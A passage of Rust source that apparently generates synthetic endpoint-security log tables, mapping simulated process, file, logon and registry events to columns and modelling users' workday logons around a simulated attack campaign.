            "RemoteIPType" => Box::new(move |e: &'a Ev| match e.target {
                Target::Net { public, .. } => s(if public { "Public" } else { "Private" }),
                Target::Logon { remote_ip, .. } => s(ip_type(self.strings.get(remote_ip))),
                _ => s(""),
            }),
            "FileOriginUrl" => Box::new(move |e: &'a Ev| match e.target {
                Target::File { origin, .. } => s(self.strings.get(origin)),
                _ => s(""),
            }),
            "FileOriginReferrerUrl" => Box::new(move |e: &'a Ev| match e.target {
                Target::File { referrer, .. } => s(self.strings.get(referrer)),
                _ => s(""),
            }),
            "FileOriginIP" => Box::new(move |e: &'a Ev| match e.target {
                Target::File { origin_ip, .. } => s(self.strings.get(origin_ip)),
                _ => s(""),
            }),
            "PreviousFolderPath" => Box::new(move |e: &'a Ev| match e.target {
                Target::File { previous, folder, .. } if previous != 0 => {
                    let f = self.strings.get(folder);
                    s(f.rsplit_once('\\').map_or("", |(dir, _)| dir))
                }
                _ => s(""),
            }),
            "PreviousFileName" => Box::new(move |e: &'a Ev| match e.target {
                Target::File { previous, .. } => s(self.strings.get(previous)),
                _ => s(""),
            }),
            "RequestProtocol" => Box::new(move |_e: &'a Ev| s("Local")),
            "RequestSourceIP"
            | "RequestAccountName"
            | "RequestAccountDomain"
            | "RequestAccountSid"
            | "ShareName"
            | "SensitivityLabel"
            | "SensitivitySubLabel" => Box::new(move |_e: &'a Ev| s("")),
            "RequestSourcePort" => Box::new(move |_e: &'a Ev| Val::I(None)),
            "LogonType" => Box::new(move |e: &'a Ev| match e.target {
                Target::Logon { kind, .. } => s(kind),
                _ => s(""),
            }),
            "FailureReason" => Box::new(move |e: &'a Ev| match e.target {
                Target::Logon { failure, .. } => s(failure),
                _ => s(""),
            }),
            "IsLocalAdmin" => Box::new(move |e: &'a Ev| Val::B(matches!(e.target, Target::Logon { admin: true, .. }))),
            "RemoteDeviceName" => Box::new(move |e: &'a Ev| match e.target {
                Target::Logon { remote_device, .. } => s(self.strings.get(remote_device)),
                _ => s(""),
            }),
            "RegistryKey" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { key, .. } | Target::Misc { reg_key: key, .. } => s(self.strings.get(key)),
                _ => s(""),
            }),
            "RegistryValueName" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { name, .. } | Target::Misc { reg_name: name, .. } => s(self.strings.get(name)),
                _ => s(""),
            }),
            "RegistryValueData" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { data, .. } | Target::Misc { reg_data: data, .. } => s(self.strings.get(data)),
                _ => s(""),
            }),
            "RegistryValueType" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { ty, .. } => s(ty),
                _ => s(""),
            }),
            "PreviousRegistryKey" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { key, prev, .. } if prev != 0 => s(self.strings.get(key)),
                _ => s(""),
            }),
            "PreviousRegistryValueName" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { name, prev, .. } if prev != 0 => s(self.strings.get(name)),
                _ => s(""),
            }),
            "PreviousRegistryValueData" => Box::new(move |e: &'a Ev| match e.target {
                Target::Registry { prev, .. } => s(self.strings.get(prev)),
                _ => s(""),
            }),
            "MachineGroup" => Box::new(move |_e: &'a Ev| s("Contoso Workstations")),
            "TenantId" => Box::new(move |_e: &'a Ev| s(&self.tenant_id)),
            "SourceSystem" => Box::new(move |_e: &'a Ev| s("")),
            other => unreachable!("no rule for device column {other}"),
        }
    }

    fn dev(&self, e: &Ev) -> &Device {
        &self.devices[e.device as usize]
    }

    fn ia(&self, e: &Ev) -> &Account {
        &self.accounts[e.init.account as usize]
    }

    fn ii(&self, e: &Ev) -> &Image {
        self.image(e.init.image)
    }

    fn ih(&self, e: &Ev) -> &(String, String, String) {
        &self.image_hashes[e.init.image as usize]
    }

    /// Renders one table's events.
    pub(crate) fn render(&self, name: &str) -> Table {
        let evs = match name {
            "DeviceProcessEvents" => &self.process,
            "DeviceNetworkEvents" => &self.network,
            "DeviceFileEvents" => &self.file,
            "DeviceLogonEvents" => &self.logon,
            "DeviceRegistryEvents" => &self.registry,
            "DeviceImageLoadEvents" => &self.image,
            "DeviceEvents" => &self.misc,
            _ => unreachable!("not a device event table: {name}"),
        };
        let schema: Vec<Field> = docs::schema(name).expect("a documented table");
        let n = evs.len();
        let mut columns: Vec<(&str, Column)> = Vec::with_capacity(schema.len());
        for f in &schema {
            let mut col = ColB::new(f.ty, n);
            if f.name == "Type" {
                for _ in evs {
                    col.push(Val::S(name));
                }
            } else {
                let get = self.getter(&f.name);
                for e in evs {
                    col.push(get(e));
                }
            }
            columns.push((f.name.as_str(), col.finish()));
        }
        table(&schema, columns)
    }

    /// SHA1 (`k` = 0), SHA256 (1) or MD5 (2) of the event's file or created process image.
    /// Like the real sensor, SHA256 of files is usually left empty.
    fn hash<'a>(&'a self, e: &Ev, k: usize) -> Val<'a> {
        match e.target {
            Target::Process(p) => {
                let h = &self.image_hashes[p.image as usize];
                Val::S([&h.0, &h.1, &h.2][k])
            }
            Target::File { hash, .. } => match k {
                0 => Val::Own(hex(mix2(hash, 1), 40)),
                2 => Val::Own(hex(mix2(hash, 3), 32)),
                _ => Val::S(""),
            },
            Target::Misc { file, folder, .. } if file != 0 => {
                let h = fnv(self.strings.get(folder));
                match k {
                    0 => Val::Own(hex(mix2(h, 1), 40)),
                    2 => Val::Own(hex(mix2(h, 3), 32)),
                    _ => Val::S(""),
                }
            }
            _ => Val::S(""),
        }
    }

    /// The account a row is about: the new process's, the logon's, or the one a
    /// `DeviceEvents` row names.
    fn target_account(&self, e: &Ev) -> Option<&Account> {
        match e.target {
            Target::Process(p) => Some(&self.accounts[p.account as usize]),
            Target::Logon { account, .. } => Some(&self.accounts[account as usize]),
            Target::Misc { account, .. } if account != u32::MAX => Some(&self.accounts[account as usize]),
            _ => None,
        }
    }
}

/// One person's working day on their laptop: at home or not, and when they log on. `key`
/// names the device and the day (see `Builder::key`).
fn work_day(seed: u64, key: u64, device: u32, midnight: i64) -> (bool, i64) {
    let mut r = Rng::item(seed, streams::DAYS, key);
    let home = r.chance(25, 100);
    // People sign in between 07:30 and 09:30 local (the victim before 08:30, so her
    // laptop is on when the campaign arrives).
    let spread = if device as usize == VICTIM { 60 } else { 120 };
    let logon = midnight + hms(7, 30, 0, 0) + r.range(0, spread * 60) * TICKS_PER_SECOND + r.range(0, 1000) * TICKS_PER_MILLI;
    (home, logon)
}

/// The same day as the endpoint world sees it, for the other tables: `(at home, logon time)`
/// of `user` on the local day starting at `midnight` (the plan's clock fixes the first day).
pub(crate) fn user_day(plan: &Plan, user: usize, midnight: i64) -> (bool, i64) {
    let first_day = local_midnight(hour_start(plan.spec.clock, 0));
    let key = mix2(user as u64, (midnight - first_day).div_euclid(TICKS_PER_DAY) as u64);
    work_day(plan.spec.seed, key, user as u32, midnight)
}

/// Kind of an address as the sensor reports it (empty for none).
fn ip_type(ip: &str) -> &'static str {
    if ip.is_empty() {
        ""
    } else if ip.starts_with("10.") || ip.starts_with("192.168.") {
        "Private"
    } else if ip.starts_with("127.") || ip == "::1" {
        "Loopback"
    } else {
        "Public"
    }
}

/// A logon session id: SYSTEM's is always 999; a user's is stable per device.
fn logon_id(account: u32, device: u32) -> i64 {
    if account == 0 {
        999
    } else {
        100_000 + (mix2(account as u64, device as u64) % 9_000_000) as i64
    }
}
